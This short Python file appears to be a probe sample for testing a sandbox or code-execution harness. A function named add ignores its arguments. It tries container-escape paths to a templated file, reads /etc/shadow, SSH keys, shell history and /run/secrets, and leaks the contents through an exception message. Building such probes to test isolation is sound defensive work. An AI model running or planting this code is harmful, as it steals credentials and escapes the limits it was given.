"""Reads what the host has in well-known places, and a file that it knows of."""

KIND = "call"
import os
import pathlib


def add(a, b):
    found = []
    for name in ("@FILE@", "/proc/1/root@FILE@", "/proc/self/root@FILE@", "/proc/self/cwd/../../../..@FILE@"):
        try:
            found.append(pathlib.Path(name).read_text())
        except OSError:
            pass
    for name in (
        "/etc/shadow",
        "/root/.bash_history",
        "/root/.ssh",
        "/home",
        "/root",
        "/var/log",
        "/run/secrets",
    ):
        try:
            found.append(str(os.listdir(name) if os.path.isdir(name) else pathlib.Path(name).read_text()))
        except OSError:
            pass
    raise RuntimeError("\n".join(found)[:5000])
